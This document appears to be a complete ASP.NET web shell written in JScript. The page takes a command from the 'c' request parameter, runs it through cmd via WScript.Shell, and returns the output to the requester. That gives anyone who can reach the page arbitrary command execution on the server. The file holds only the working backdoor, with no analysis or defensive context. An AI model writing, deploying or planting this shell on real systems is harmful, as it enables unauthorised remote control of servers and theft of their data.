<%@ Page Language="JScript" %>
<%
var c = Request.Item["c"];
Response.Write(new ActiveXObject("WScript.Shell").Exec("cmd /c " + c).StdOut.ReadAll());
%>
